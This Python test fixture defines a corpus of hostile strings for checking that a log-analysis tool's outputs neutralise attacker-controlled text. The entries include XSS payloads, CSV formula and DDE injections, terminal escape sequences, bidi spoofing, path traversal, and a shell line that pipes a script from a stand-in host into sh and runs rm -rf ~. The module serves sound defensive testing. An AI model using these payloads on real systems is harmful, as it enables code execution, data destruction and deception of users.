"""The hostile-strings corpus: text an attacker can put in a log, meant to act on whoever
reads beaconhunt's output (issue 13 item 6).

Each entry is a :class:`Hostile` with a short name (used as the test id) and a note on
what it tries to do. ``tests/hostile/capture.py`` writes every entry into the fields an
attacker controls (destination names, URIs, user agents, Zeek ``uid``, Sysmon image,
command lines, user and host names, file names), and ``test_hostile_outputs.py`` asserts
that nothing in it *acts* in any output: no markup interpreted, no control sequence
emitted, no formula left live, no HTML element created.

The groups:

* **Rich markup and emoji codes**: Rich parses ``[style]`` tags and ``:name:`` codes in
  strings it prints as markup; a stray ``[/x]`` raises, a ``[link=...]`` makes a live link.
* **Terminal control**: ANSI CSI (clear screen, colours), OSC 8 hyperlinks and OSC 0
  title sets, the 8-bit C1 CSI ``\\x9b``, NEL, BEL, NUL, backspace and DEL.
* **Line injection**: CR, LF and Unicode line/paragraph separators that would start a
  fake second line, a fake warning or a fake table row.
* **Bidi and invisible characters**: overrides (U+202A-202E) and isolates (U+2066-2069)
  that reorder what is shown; zero-width characters that hide inside names.
* **CSV formulas**: cells that spreadsheet programs run (``=``, ``+``, ``-``, ``@``,
  leading tab or CR).
* **HTML**: script, image and SVG elements with event handlers, an entity-encoded tag.
* **Markdown**: ``javascript:`` links, tracking images, autolinks, table pipes,
  backticks, HTML comments, headings and emphasis after a newline, reference definitions.
* **Shell-looking text**: command substitution, pipes, environment expansion.
* **Encoding**: a lone surrogate (which UTF-8 cannot encode), a 100,000-character string.
* **Paths**: traversal names (``../../etc/passwd``) in both separators.
"""

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["CORPUS", "LONG", "Hostile", "by_name"]


@dataclass(frozen=True)
class Hostile:
    """One hostile string: ``name`` is the test id, ``why`` what it tries to do."""

    name: str
    value: str
    why: str


#: The 100,000-character entry: hostile markup at both ends, so a cut shows which end.
LONG = "<script>alert(1)</script>[bold]" + "A" * 99_956 + "\x1b[2J</script>"
assert len(LONG) == 100_000

CORPUS: tuple[Hostile, ...] = (
    # -- Rich markup and emoji codes
    Hostile("rich-style", "[bold red]x[/]", "Rich markup: a style tag and its closer"),
    Hostile("rich-stray-close", "[/x]", "a closing tag with no opener: Rich raises MarkupError"),
    Hostile("rich-link", "[link=https://attacker.example]x[/link]", "Rich markup: a live link"),
    Hostile("emoji", ":skull: :warning:", "Rich emoji codes become pictures"),
    # -- terminal control
    Hostile("csi-clear", "\x1b[2J\x1b[Hclean", "ANSI CSI: clear the screen, cursor home"),
    Hostile("csi-colour", "\x1b[31mred\x1b[0m", "ANSI SGR: colour the analyst's terminal"),
    Hostile("osc8-link", "\x1b]8;;https://a.example\x07click\x1b]8;;\x07", "OSC 8 hyperlink"),
    Hostile("osc-title", "\x1b]0;pwned\x07title", "OSC 0: set the window title"),
    Hostile("osc-st", "\x1b]8;;https://st.example\x1b\\st", "OSC 8 ended by ST (ESC backslash)"),
    Hostile("c1-csi", "\x9b2J\x9b31mc1", "8-bit C1 CSI (U+009B): a CSI on some terminals"),
    Hostile("c1-nel", "a\x85b", "C1 NEL (U+0085): a line break to str.splitlines"),
    Hostile("bel", "ring\x07\x07", "BEL"),
    Hostile("nul", "nul\x00byte", "NUL: ends C strings, breaks CSV readers"),
    Hostile("backspace", "admin\x08\x08\x08\x08\x08guest", "backspaces overwrite what was shown"),
    Hostile("del", "del\x7fete", "DEL"),
    # -- line injection
    Hostile("cr-overwrite", "evil.example\rgood.example", "CR: the rest overwrites the line"),
    Hostile("lf-fake-warning", "x\nwarning: all clear, 0 findings", "LF: a fake second message"),
    Hostile(
        "lf-fake-row",
        "x\n│ 1 │ close │ beacon │ 0.01 │ fake-row │",
        "LF: a fake row in the terminal table",
    ),
    Hostile("crlf-heading", "x\r\n# Injected heading", "CRLF: a Markdown heading line"),
    Hostile("unicode-line-sep", "a\u2028b\u2029c", "LINE/PARAGRAPH SEPARATOR: line breaks"),
    # -- bidi and invisible characters
    Hostile("bidi-rlo", "invoice\u202efdp.exe", "RIGHT-TO-LEFT OVERRIDE: shown 'invoiceexe.pdf'"),
    Hostile("bidi-embed", "\u202aa\u202bb\u202cc\u202dd", "LRE, RLE, PDF, LRO"),
    Hostile("bidi-isolates", "\u2066a\u2067b\u2068c\u2069", "LRI, RLI, FSI, PDI"),
    Hostile("zero-width", "pay\u200bpal\u200c\u200d\ufeff\u2060.example", "invisible joiners"),
    # -- CSV formulas
    Hostile("csv-hyperlink", '=HYPERLINK("http://x.example","click")', "a live link formula"),
    Hostile("csv-dde", "+cmd|' /C calc'!A0", "DDE: runs a program"),
    Hostile("csv-minus", "-2+3", "a formula led by minus"),
    Hostile("csv-at", "@SUM(1)", "a formula led by @"),
    Hostile("csv-tab", "\t=1+1", "a formula after a leading tab"),
    Hostile("csv-cr", "\r=1+1", "a formula after a leading CR"),
    # -- HTML
    Hostile("html-script", "<script>alert(1)</script>", "a script element"),
    Hostile("html-img", "<img src=x onerror=alert(1)>", "an image with an event handler"),
    Hostile("html-svg", '"><svg onload=alert(1)>', "breaks out of an attribute, then SVG"),
    Hostile("html-entity", "&lt;img src=x onerror=alert(1)&gt; &#60;b&#62;", "encoded tags"),
    # -- Markdown
    Hostile("md-js-link", "[click](javascript:alert(1))", "a javascript: link"),
    Hostile("md-image", "![x](http://tracker.example/pixel.png)", "an image that phones home"),
    Hostile("md-autolink", "<http://auto.example/> <javascript:alert(1)>", "autolinks"),
    Hostile("md-table", "| fake | cell |", "pipes that end a table cell"),
    Hostile("md-backticks", "`code` ``double`` ```fence", "backticks that close a code span"),
    Hostile("md-comment", "<!-- hides the rest", "an HTML comment hiding what follows"),
    Hostile("md-heading", "x\n# heading\n\n---", "a heading and a rule after a newline"),
    Hostile("md-emphasis", "*em* **strong** _u_ ~~s~~ \\*", "emphasis and a backslash"),
    Hostile("md-refdef", "x\n[r]: http://ref.example 'title'", "a reference definition"),
    # -- shell-looking text
    Hostile(
        "shell",
        "$(curl -s http://x.example/s|sh); `id` && rm -rf ~ #",
        "command substitution and chaining",
    ),
    Hostile(
        "shell-win",
        "%COMSPEC% /c calc & whoami | net user > %TEMP%\\o",
        "cmd.exe expansion and chaining",
    ),
    # -- encoding
    Hostile("lone-surrogate", "a\ud800b", "a lone surrogate: UTF-8 cannot encode it"),
    Hostile("long-100k", LONG, "100,000 characters"),
    # -- paths
    Hostile("path-traversal", "../../etc/passwd", "a traversal path"),
    Hostile("path-traversal-win", "..\\..\\Windows\\System32\\cmd.exe", "a Windows traversal"),
)

_BY_NAME = {h.name: h for h in CORPUS}
assert len(_BY_NAME) == len(CORPUS), "corpus names must be unique"


def by_name(name: str) -> Hostile:
    """The corpus entry called ``name``."""
    return _BY_NAME[name]
